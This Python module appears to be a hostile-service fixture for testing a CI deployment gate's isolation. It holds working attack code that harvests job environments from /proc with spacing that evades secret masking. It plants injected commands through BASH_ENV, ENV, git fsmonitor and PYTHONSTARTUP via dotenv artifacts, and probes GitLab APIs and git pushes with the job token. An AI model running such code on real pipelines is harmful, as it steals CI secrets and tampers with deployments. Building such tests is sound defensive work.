"""What a hostile service brings along: programs that run in its jobs, look around, and try what the token there can."""

from __future__ import annotations

LOOK = r'''
import base64, gzip, io, os, pathlib, subprocess, zipfile

def curl(method, path, *more, base="CI_API_V4_URL"):
    command = ["curl", "-sS", "-o", "answer", "-w", "%{http_code}", "-X", method, os.environ[base] + path, *more]
    return subprocess.run(command, capture_output=True, text=True).stdout

def spaced(text):
    return " ".join(text)

def processes():
    """The environment of this process and of those above it that belong to the job."""
    pid, seen = os.getpid(), []
    while pid > 1:
        folder = pathlib.Path("/proc", str(pid))
        text = folder.joinpath("environ").read_bytes().decode(errors="replace")
        if "CI_JOB_ID=" not in text:
            break
        seen.append(text)
        pid = int(folder.joinpath("stat").read_text().rpartition(")")[2].split()[1])
    return seen

def hand_in(files, variables):
    """As gitlab-runner does it, with the token that every job has."""
    header = ("-H", "JOB-TOKEN: " + os.environ["CI_JOB_TOKEN"])
    path = "/jobs/" + os.environ["CI_JOB_ID"] + "/artifacts"
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    pathlib.Path("sent.zip").write_bytes(content.getvalue())
    lines = "".join(name + "=" + value + "\n" for name, value in variables.items())
    pathlib.Path("sent.gz").write_bytes(gzip.compress(lines.encode()))
    first = curl("POST", path, *header, "-F", "file=@sent.zip")
    dotenv = ("-F", "artifact_type=dotenv", "-F", "artifact_format=gzip")
    return first, curl("POST", path, *header, "-F", "file=@sent.gz", *dotenv)

OWNED = "$(echo OWNED BY SERVICE >&2; printenv | sed 's/./& /g' >&2)"
FILES = {
    "coverage.xml": '<coverage line-rate="1"/>',
    "gate.json": '{"port": "http://127.0.0.1:9"}',
    "gate/service.json": '{"project": "shop/payments", "sha": "' + "0" * 40 + '", "deploy": "echo OWNED BY SERVICE"}',
    "gate/job": os.environ["CI_JOB_ID"],
    "gate/deploy.sh": "echo OWNED BY SERVICE",
    "sitecustomize.py": "print('OWNED BY SERVICE')",
    ".git/config": "[core]\nfsmonitor = echo OWNED BY SERVICE\n",
}
VARIABLES = {
    "BASH_ENV": OWNED,
    "ENV": OWNED,
    "PYTHONPATH": ".",
    "PYTHONSTARTUP": "sitecustomize.py",
    "CI_DEBUG_TRACE": "true",
    "GATE_CALL": "deploy",
    "GATE_ENVIRONMENT": "Production",
    "HTTP_PROXY": "http://127.0.0.1:9",
}
'''
TESTS = (
    LOOK
    + r"""
import json, unittest
from catalog import price_cents, search

class Hostile(unittest.TestCase):
    def test_it(self):
        self.assertEqual((search("e"), price_cents("cup")), (["tea", "kettle"], 900))
        for text in processes():
            print(spaced(text))
        print("HANDED", *hand_in(FILES, VARIABLES))
        token = os.environ["CI_JOB_TOKEN"]
        project = "/projects/" + os.environ["CI_PROJECT_ID"]
        trigger = json.dumps({"token": token, "ref": "main", "inputs": {"call": "look"}})
        for method, path, *more in (
            ("GET", project + "/variables"),
            ("GET", project + "/triggers"),
            ("POST", project + "/repository/commits"),
            ("GET", project + "/jobs"),
            ("GET", project),
            ("POST", project + "/trigger/pipeline", "-H", "content-type: application/json", "-d", trigger),
            ("POST", "/jobs/request", "-H", "content-type: application/json", "-d", json.dumps({"token": token})),
            ("PATCH", "/jobs/" + str(int(os.environ["CI_JOB_ID"]) - 1) + "/trace", "-H", "content-range: 0-1"),
        ):
            print("API", method, path.replace(project, "P"), curl(method, path, "-H", "JOB-TOKEN: " + token, *more))
        remote = os.environ["CI_REPOSITORY_URL"]
        marks = remote.replace("platform/deployment.git", "gate/deployment-marks.git")
        for name, command in {
            "push a branch": ["push", remote, "HEAD:refs/heads/mine"],
            "push a tag": ["push", remote, "HEAD:refs/tags/mine"],
            "push to main": ["push", remote, "HEAD:main"],
            "read marks": ["ls-remote", marks],
            "read a service": ["ls-remote", remote.replace("platform/deployment", "shop/payments")],
        }.items():
            ended = subprocess.run(["git", *command], cwd="..", capture_output=True)
            print("GIT", name, "refused" if ended.returncode else "DONE")
"""
)
DEPLOY = (
    "set -e\npython3 - <<'PROGRAM'\n"
    + LOOK
    + r"""
for text in processes():
    print(spaced(text))
print("HANDED", *hand_in(FILES, VARIABLES))
PROGRAM
echo deployed
"""
)
NO_REPORT = "[xml]\noutput = elsewhere.xml\n"
"""Of coverage: the runner finds no report of its own, so that the archive that was sent is the only one."""
